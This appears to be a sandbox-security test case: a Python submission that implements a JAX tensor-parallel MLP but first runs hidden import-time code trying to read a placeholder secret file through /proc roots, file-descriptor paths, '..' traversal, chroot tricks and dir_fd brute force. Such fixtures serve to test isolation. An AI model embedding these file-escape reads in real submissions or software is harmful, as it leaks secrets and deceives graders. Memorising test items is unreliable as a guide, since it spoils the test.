"""Goes the long way to a secret: dots, directory descriptors, /proc, a changed root.

verdicts: AC
harm: leak @SECRET@
"""

import os

import jax
from jax.sharding import AxisType, PartitionSpec as P

for root in (
    "/proc/1/root",
    "/proc/self/root",
    "/proc/self/cwd",
    "/proc/self/fd/0",
    "/dev/fd/3",
    "/usr/lib/../..",
    "//",
    "/tmp/..",
):
    try:
        print(open(root + "@SECRETFILE@").read())
    except OSError:
        pass
for change in (os.chroot, os.chdir):
    for folder in ("/", "/proc/1/root", "..", "/tmp"):
        try:
            change(folder)
            for _ in range(20):
                os.chdir("..")
            print(open("." + "@SECRETFILE@").read())
        except OSError:
            pass
for descriptor in range(64):
    try:
        print(os.read(os.open("@SECRETFILE@".lstrip("/"), os.O_RDONLY, dir_fd=descriptor), 100))
    except OSError:
        pass


def tensor_parallel_mlp(x, w1, b1, w2, b2):
    mesh = jax.make_mesh((8,), ("model",), axis_types=(AxisType.Auto,))

    def body(x, w1, b1, w2):
        hidden = jax.nn.relu(x @ w1 + b1)
        return hidden, jax.lax.psum(hidden @ w2, "model")

    hidden, out = jax.shard_map(
        body,
        mesh=mesh,
        in_specs=(P(), P(None, "model"), P("model"), P("model", None)),
        out_specs=(P(None, "model"), P()),
    )(x, w1, b1, w2)
    return {"out": out + b2, "hidden": hidden}
